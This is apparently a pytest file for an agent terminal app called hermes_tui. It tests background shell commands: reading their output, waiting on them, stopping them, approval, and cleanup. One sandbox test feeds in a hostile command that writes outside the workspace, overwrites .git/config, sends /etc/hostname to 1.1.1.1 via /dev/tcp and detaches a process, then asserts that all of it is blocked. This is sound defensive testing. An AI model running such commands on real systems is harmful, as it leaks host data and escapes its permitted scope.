"""Commands that agents let run in the background: judged as any, read on, waited for, stopped, gone with their run."""

from __future__ import annotations

import json
import os
import signal
import time
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest

from hermes_tui.domain.commands import GoOn, Interrupt, SetMode, StartShell, StopShell, Submit
from hermes_tui.domain.events import (
    ApprovalAsked,
    RunEnded,
    ShellEnded,
    ShellStarted,
    ToolFinished,
    ToolIntended,
    ToolRefused,
)
from hermes_tui.domain.tasks import Effect, Mode, Reach
from hermes_tui.services import history
from hermes_tui.services.background import READ_BYTES
from hermes_tui.services.shells import MOST
from tests.fakes import Asked, Call, Fault, Reply, Scenario, running_server
from tests.interfaces.processes import Shop, needs_sandbox, shop, without_traceback
from tests.services.test_desk import AGENT, WAIT_S, Open, open_desk
from tests.services.test_shells import until

__all__ = ["open_desk", "shop"]

Desks = Callable[..., Open]
pytestmark = needs_sandbox


def beside(command: str, **more: object) -> Call:
    return Call("shell", {"command": command, "background": True, **more})


def shells(**arguments: object) -> Call:
    return Call("shells", arguments)


def steps(*calls: Call | Sequence[Call]) -> list[Reply]:
    """Return a model that makes these calls one after another, then hands back."""
    return [Reply("", tool_calls=[one] if isinstance(one, Call) else list(one)) for one in calls] + [Reply("Done.")]


def worked(table: Open, text: str = "go") -> list[ToolFinished]:
    """Let the model work to its end in a mode that asks nothing; return the results of its calls."""
    table.desk.send(SetMode(mode=Mode.AUTO))
    table.desk.send(Submit(text=text))
    table.seen.wait_for(RunEnded)
    return [body for body in table.seen.of(ToolFinished) if isinstance(body, ToolFinished)]


def ends(table: Open) -> list[ShellEnded]:
    return [body for body in table.seen.of(ShellEnded) if isinstance(body, ShellEnded)]


def test_a_command_returns_at_once_is_read_on_and_waited_for(open_desk: Desks) -> None:
    # It goes on only once somebody has read its first line: so what is read second cannot have been there before.
    waits = "echo first; while [ ! -e go ]; do sleep 0.02; done; echo second; exit 3"
    replies = steps(
        beside(waits), shells(id="s1", wait_s=1), Call("write", {"path": "go", "content": "x"}),
        shells(id="s1", wait_s=60), shells(id="s1"), shells(),
    )  # fmt: skip
    with running_server(Scenario(replies=replies)) as server:
        began, first, _, second, again, listed = worked(open_desk(server.openai_url))

    assert json.loads(began.data) == {"shell": "s1"}
    assert json.loads(first.data) == {"shell": "s1", "running": True, "ok": None, "new": "first\n"}
    assert json.loads(second.data) == {"shell": "s1", "running": False, "ok": False, "new": "second\n"}
    assert second.output.startswith("s1: exit 3 after ")
    assert json.loads(again.data)["new"] == ""
    assert listed.output.endswith(waits)


def test_its_agent_stops_it_with_everything_it_started(open_desk: Desks, tmp_path: Path) -> None:
    beats = "( while :; do date +%s%N > beat; sleep 0.02; done ) & echo up; wait"
    replies = steps(beside(beats), Call("shell", {"command": "while [ ! -s beat ]; do sleep 0.02; done"}),
                    shells(id="s1", stop=True))  # fmt: skip
    with running_server(Scenario(replies=replies)) as server:
        *_, stopped = worked(table := open_desk(server.openai_url))

    assert stopped.output.splitlines()[0].startswith("s1: stopped: by its agent after ")
    assert [(one.end, one.why) for one in ends(table)] == [("stopped", "by its agent")]
    assert _stands_still(tmp_path / "workspace" / "beat")


def _stands_still(file: Path) -> bool:
    before = file.read_bytes()
    time.sleep(0.5)
    return file.read_bytes() == before


@pytest.mark.parametrize("stop", ["hands back", "interrupted", "closed"])
def test_it_ends_with_its_run_before_that_end_is_on_record(open_desk: Desks, stop: str) -> None:
    replies = [Reply("", tool_calls=[beside("sleep 600")]), Reply("Done.") if stop == "hands back" else Reply(
        "", tool_calls=[shells(id="s1", wait_s=300)])]  # fmt: skip
    with running_server(Scenario(replies=replies)) as server:
        table = open_desk(server.openai_url)
        table.desk.send(SetMode(mode=Mode.AUTO))
        table.desk.send(Submit(text="go"))
        if stop != "hands back":
            table.seen.wait(lambda: len(server.log.replies) == 2)
        if stop == "interrupted":
            table.desk.send(Interrupt())
        elif stop == "closed":
            table.desk.close(timeout_s=WAIT_S)
        table.seen.wait_for(RunEnded)

    last = [type(record.body) for record in table.seen.records]
    assert last.index(ShellEnded) < last.index(RunEnded)
    assert [(one.end, one.why) for one in ends(table)] == [("stopped", "its run ended")]


def test_after_an_interrupt_the_agent_reads_that_it_was_stopped_and_it_is_not_begun_again(open_desk: Desks) -> None:
    seen: list[str] = []

    replies = [beside("sleep 600", timeout_s=600), shells(id="s1", wait_s=300)]

    def answer(asked: Asked) -> Reply:
        seen.append(json.dumps(asked.body))
        return Reply("", tool_calls=[replies.pop(0)]) if replies else Reply("I see.")

    with running_server(Scenario(respond=answer)) as server:
        table = open_desk(server.openai_url)
        table.desk.send(SetMode(mode=Mode.AUTO))
        table.desk.send(Submit(text="go"))
        table.seen.wait(lambda: len(seen) == 2)
        table.desk.send(Interrupt())
        table.seen.wait_for(RunEnded)
        table.desk.send(GoOn())
        table.seen.wait_for(RunEnded, 2)

    assert len(table.seen.of(ShellStarted)) == 1
    assert "s1: stopped: its run ended" in seen[2]


def test_an_end_that_nobody_waits_for_reaches_the_agent_as_a_message(open_desk: Desks) -> None:
    notes: list[str] = []

    def answer(asked: Asked) -> Reply:
        notes.append(json.dumps(asked.body))
        if len(notes) == 1:
            return Reply("", tool_calls=[beside("exit 4")])
        if any("s1: exit 4" in note for note in notes):
            return Reply("It failed.")
        return Reply("", tool_calls=[Call("shell", {"command": "sleep 0.2"})])

    with running_server(Scenario(respond=answer)) as server:
        table = open_desk(server.openai_url)
        worked(table)

    assert "`shells` reads what it printed" in notes[-1]


def test_it_is_asked_about_as_a_foreground_shell_and_the_question_says_that_it_runs_on(open_desk: Desks) -> None:
    with running_server(Scenario(replies=steps(beside("make serve")))) as server:
        table = open_desk(server.openai_url)
        table.desk.send(Submit(text="go"))
        asked = table.seen.wait_for(ApprovalAsked)

    assert isinstance(asked, ApprovalAsked)
    assert (asked.what, asked.reach) == ("in the background: make serve", Reach.SANDBOX)
    assert not table.seen.of(ShellStarted)


def test_mode_plan_refuses_it(open_desk: Desks) -> None:
    with running_server(Scenario(replies=steps(beside("touch x")))) as server:
        table = open_desk(server.openai_url)
        table.desk.send(SetMode(mode=Mode.PLAN))
        table.desk.send(Submit(text="go"))
        table.seen.wait_for(RunEnded)

    assert len(table.seen.of(ToolRefused)) == 1
    assert not table.seen.of(ShellStarted)


def test_its_intent_is_on_record_before_it_and_what_it_changed_with_its_end(open_desk: Desks) -> None:
    with running_server(Scenario(replies=steps(beside("echo x > made.txt"), shells(id="s1", wait_s=60)))) as server:
        table = open_desk(server.openai_url)
        worked(table)

    (intended,) = table.seen.of(ToolIntended)
    (started,) = table.seen.of(ShellStarted)
    assert isinstance(intended, ToolIntended)
    assert isinstance(started, ShellStarted)
    assert (started.call_id, started.by, started.effect) == (intended.call_id, AGENT, Effect.WRITE)
    assert [(one.path, one.change) for one in ends(table)[0].changed] == [("made.txt", "created")]
    assert list(table.desk.state.calls.changed) == ["made.txt"]


def test_one_more_than_the_most_is_refused_whoever_began_the_others(open_desk: Desks) -> None:
    replies = steps([beside("sleep 600") for _ in range(MOST)])
    with running_server(Scenario(replies=replies)) as server:
        table = open_desk(server.openai_url)
        table.desk.send(StartShell(command="sleep 600"))
        table.seen.wait_for(ShellStarted)
        results = worked(table)

    assert [one.ok for one in results] == [True] * (MOST - 1) + [False]
    assert results[-1].output.startswith(f"{MOST} shells run already.")
    assert [one.why for one in ends(table)] == ["its run ended"] * (MOST - 1)


def test_the_operator_stops_it_and_its_agent_reads_that(open_desk: Desks) -> None:
    with running_server(
        Scenario(replies=steps(beside("sleep 600", timeout_s=600), shells(id="s1", wait_s=300)))
    ) as server:
        table = open_desk(server.openai_url)
        table.desk.send(SetMode(mode=Mode.AUTO))
        table.desk.send(Submit(text="go"))
        table.seen.wait(lambda: len(server.log.replies) == 2)
        table.desk.send(StopShell(shell_id="s1"))
        table.seen.wait_for(RunEnded)

    result = table.seen.of(ToolFinished)[-1]
    assert isinstance(result, ToolFinished)
    assert result.output.startswith("s1: stopped: by the operator after ")


def test_the_operators_own_commands_are_not_read_by_agents(open_desk: Desks) -> None:
    with running_server(Scenario(replies=steps(shells(id="s1"), shells()))) as server:
        table = open_desk(server.openai_url)
        table.desk.send(StartShell(command="echo mine"))
        table.seen.wait_for(ShellEnded)
        one, listed = worked(table)

    assert (one.ok, one.output.splitlines()[0]) == (False, "There is no shell 's1' in the background. Known: none.")
    assert listed.output == "None was begun."


def test_of_much_output_the_end_is_read_and_the_rest_is_named(open_desk: Desks) -> None:
    lines = READ_BYTES // 5
    replies = steps(beside(f"seq 1000000 {1_000_000 + lines}"), shells(id="s1", wait_s=60))
    with running_server(Scenario(replies=replies)) as server:
        table = open_desk(server.openai_url)
        _, read = worked(table)

    new = json.loads(read.data)["new"]
    assert len(new) == READ_BYTES
    assert new.endswith(f"{1_000_000 + lines}\n")
    assert "bytes before this are in " in read.output


def test_endless_output_ends_it(open_desk: Desks) -> None:
    with running_server(Scenario(replies=steps(beside("yes"), shells(id="s1", wait_s=200)))) as server:
        table = open_desk(server.openai_url)
        worked(table)

    assert [one.end for one in ends(table)] == ["output_limit"]


def test_what_it_cannot_write_in_the_foreground_it_cannot_write_in_the_background(
    open_desk: Desks, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.txt"
    reach = f"echo x > {outside}; echo x > .git/config; cat /etc/hostname > /dev/tcp/1.1.1.1/80; setsid sleep 601 & "
    (tmp_path / "workspace" / ".git").mkdir(parents=True)
    with running_server(Scenario(replies=steps(beside(f"{reach} exit 0"), shells(id="s1", wait_s=60)))) as server:
        table = open_desk(server.openai_url)
        worked(table)

    assert not outside.exists()
    assert not (tmp_path / "workspace" / ".git" / "config").exists()
    assert _running("sleep 601") == []


def _running(words: str) -> list[int]:
    """Return the processes of this machine that were started with these words."""
    found: list[int] = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                said = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace").strip()
            except OSError:
                continue
            if said.endswith(words):
                found.append(int(entry.name))
    return found


def test_hermes_killed_leaves_nothing_behind_and_resumes_without_repeating_it(shop: Shop) -> None:
    marked = f"sleep {700 + os.getpid() % 100}.25"
    seen: list[str] = []

    def answer(asked: Asked) -> Reply:
        seen.append(json.dumps(asked.body))
        if len(seen) == 1:
            return Reply("", tool_calls=[beside(f"echo begun >> times; {marked}")])
        return Reply("Seen.", fault=Fault.parse("stall@before_token") if len(seen) == 2 else None)

    with running_server(Scenario(respond=answer)) as server:
        shop.env |= {"OPENAI_BASE_URL": server.openai_url, "OPENAI_API_KEY": "k-test"}
        goal = shop.root / "goal.md"
        goal.write_text("---\nmode: auto\nmodel: openai:fake-large\n---\nServe it.\n", "utf-8")
        with shop.live(goal) as process:
            until(lambda: (shop.work / "times").exists() and len(seen) == 2)
            process.send_signal(signal.SIGKILL)
        until(lambda: not _running(marked))
        again = shop.run("--batch", str(goal), "-C", str(shop.work), "--output-format", "json")

    assert without_traceback(again)["code"] == 0
    assert (shop.work / "times").read_text() == "begun\n"
    assert "s1: end unknown: Hermes ended before it did. It was not begun again." in seen[-1]
    (path,) = (shop.home / "state" / "sessions").glob("*.db")
    bodies = [record.body for record in history.records(path.parent, path.stem)]
    assert [body.end for body in bodies if isinstance(body, ShellEnded)] == ["lost"]
    assert len([body for body in bodies if isinstance(body, ShellStarted)]) == 1
